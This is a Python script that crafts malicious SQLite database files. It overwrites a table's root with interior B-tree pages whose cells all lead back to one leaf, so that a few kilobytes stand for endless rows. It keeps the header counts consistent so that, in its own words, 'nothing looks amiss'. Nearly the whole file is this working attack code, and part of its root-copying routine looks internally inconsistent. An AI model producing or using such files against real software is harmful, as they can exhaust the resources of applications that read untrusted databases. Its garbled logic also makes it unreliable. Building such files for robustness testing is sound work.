"""Pack files whose tree of pages leads to the same leaf again and again: few bytes that stand for endless rows.

The layout of pages: https://sqlite.org/fileformat2.html#b_tree_pages
"""

from __future__ import annotations

import struct
from pathlib import Path

import apsw

PAGE = 4096
LEAF_TABLE, INTERIOR_TABLE, LEAF_INDEX, INTERIOR_INDEX = 13, 5, 10, 2


def multiply(path: Path, table: str, depth: int = 2) -> Path:
    """Makes the root of a table lead to its own first leaf from every cell of `depth` levels of new pages.

    Each level multiplies the rows by several hundred. Counts in the file's header fit, so that nothing looks amiss.
    """
    with apsw.Connection(str(path)) as connection:
        root, kind = connection.execute(
            "SELECT rootpage, sql LIKE '%WITHOUT ROWID' FROM sqlite_schema WHERE name=? AND type='table'", (table,)
        ).fetchone() or (1, 0)
    connection.close()
    data = bytearray(path.read_bytes())
    pages = len(data) // PAGE
    target = _copy_of_root(data, root, pages + 1)
    for _ in range(depth - 1):
        data += _interior_page(target, without_rowid=bool(kind))
        target = len(data) // PAGE
    start = (root - 1) * PAGE
    begin = 100 if root == 1 else 0
    page = _interior_page(target, without_rowid=bool(kind), begin=begin)
    data[start + begin : start + PAGE] = page[begin:]
    struct.pack_into(">I", data, 28, len(data) // PAGE)
    path.write_bytes(data)
    return path


def _copy_of_root(data: bytearray, root: int, number: int) -> int:
    """Appends the root page as an ordinary page. Returns its number."""
    page = data[(root - 1) * PAGE : root * PAGE]
    if root == 1:  # its header begins after that of the file; the offsets of its cells count from the page's start
        page = bytearray(page[100:112]) + bytearray(100) + page[112:]
        cells = struct.unpack_from(">H", page, 3)[0]
        first = 12 if page[0] in (INTERIOR_TABLE, INTERIOR_INDEX) else 8
        page = bytearray(data[100 : 100 + first + 2 * cells])
        page += bytearray(PAGE - len(page))
        lowest = min(struct.unpack_from(">H", page, first + 2 * cell)[0] for cell in range(cells))
        page[lowest:] = data[lowest:PAGE]
    data += page
    return number


def _interior_page(child: int, *, without_rowid: bool, begin: int = 0) -> bytearray:
    """A page full of cells that all lead to `child`."""
    page = bytearray(PAGE)
    # A cell: the number of the child, then a rowid of one byte, or a record of a few bytes.
    record = bytes((5, 3, 15, 15, 97))  # length of the payload, of its header, two texts of one letter: a and b
    cell = struct.pack(">I", child) + (record + b"b" if without_rowid else b"\x01")
    size = max(4, len(cell))
    count = (PAGE - begin - 12) // (size + 2)
    top = PAGE
    for number in range(count):
        top -= size
        page[top : top + len(cell)] = cell
        struct.pack_into(">H", page, begin + 12 + 2 * number, top)
    kind = INTERIOR_INDEX if without_rowid else INTERIOR_TABLE
    struct.pack_into(">BHHHBI", page, begin, kind, 0, count, top, 0, child)
    return page
